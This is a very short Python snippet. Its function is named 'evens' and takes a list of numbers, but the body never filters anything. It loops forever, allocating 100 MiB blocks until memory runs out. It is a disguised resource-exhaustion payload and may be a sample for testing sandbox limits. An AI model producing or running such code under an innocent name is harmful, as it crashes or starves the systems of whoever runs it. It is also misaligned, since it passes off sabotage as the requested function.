def evens(numbers):
    hoard = []
    while True:
        hoard.append(bytearray(100 * 2**20))
